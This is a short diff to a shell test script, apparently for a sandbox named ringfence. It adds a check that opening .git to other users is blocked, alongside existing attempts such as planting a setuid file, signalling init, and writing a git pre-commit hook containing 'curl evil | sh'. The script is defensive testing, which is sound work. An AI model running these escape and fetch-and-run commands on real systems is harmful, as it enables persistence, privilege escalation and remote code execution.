@@ -57,6 +57,7 @@ try "write /tmp/persist (a private tmpfs)" sh -c 'echo x > /tmp/persist'
 try "create a user namespace (unshare -Ur)" unshare -Ur true
 try "plant a setuid file (chmod u+s)" sh -c 'cp /bin/true ./suid && chmod u+s ./suid'
 try "plant a git hook (.git/hooks/pre-commit)" sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
+try "open .git to other local users (chmod 0777)" chmod 0777 . .git
 try "move .git aside to recreate it" mv .git .git-old
 try "signal ringfence's init (kill -TERM 1)" kill -TERM 1
 AGENT
